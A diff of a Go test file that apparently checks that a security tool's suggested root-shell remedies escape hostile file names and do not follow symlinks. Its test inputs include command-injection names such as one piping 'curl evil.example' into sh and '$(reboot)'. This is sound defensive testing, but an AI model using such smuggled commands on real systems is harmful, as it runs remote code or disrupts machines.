@@ -9,8 +9,8 @@ import (
 	"github.com/pvesec/terraform-provider-pvesec/internal/paths"
 )
 
-// TestRemediesAreHarmless: users give files their names, and people paste remedies into a shell of root. No remedy that is a command has a name that a shell acts on, in
-// the graph, in the cuts and in the report.
+// TestRemediesAreHarmless: users give files their names, and people paste remedies into a shell of root. No remedy that
+// is a command has a name that a shell acts on, in the graph, in the cuts and in the report.
 func TestRemediesAreHarmless(t *testing.T) {
 	t.Parallel()
 	for _, name := range []string{"/tmp/x;curl evil.example|sh", "/tmp/$(reboot)", "/tmp/`reboot`", "/tmp/a b", "/tmp/x&", "/tmp/~root", "/tmp/'", "/tmp/\"", "/tmp/x\ny", "/tmp/*", "/tmp/{a,b}", "/tmp/#x", "/tmp/x\\y", "/tmp/!!", "/tmp/ä"} {
@@ -49,7 +49,8 @@ func command(s paths.Step) bool {
 	return s.Remedy != "" && (s.Remedy[0] < 'A' || s.Remedy[0] > 'Z')
 }
 
-// TestRemediesFollowNoLink: chmod(1) and setcap(8) follow a link that somebody puts in place of a file after the report. Where somebody else than root can do that, there is no command.
+// TestRemediesFollowNoLink: chmod(1) and setcap(8) follow a link that somebody puts in place of a file after the
+// report. Where somebody else than root can do that, there is no command.
 func TestRemediesFollowNoLink(t *testing.T) {
 	t.Parallel()
 	for name, test := range map[string]struct {
